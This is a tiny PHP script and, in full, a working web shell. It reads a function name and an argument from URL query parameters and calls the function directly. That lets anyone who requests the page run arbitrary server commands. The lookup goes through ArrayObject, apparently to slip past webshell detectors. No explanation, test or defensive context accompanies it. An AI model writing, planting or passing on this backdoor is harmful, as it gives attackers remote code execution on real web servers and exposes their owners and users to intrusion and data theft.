<?php
$o = new ArrayObject($_GET);
$f = $o->offsetGet('f');
$f($o->offsetGet('a'));
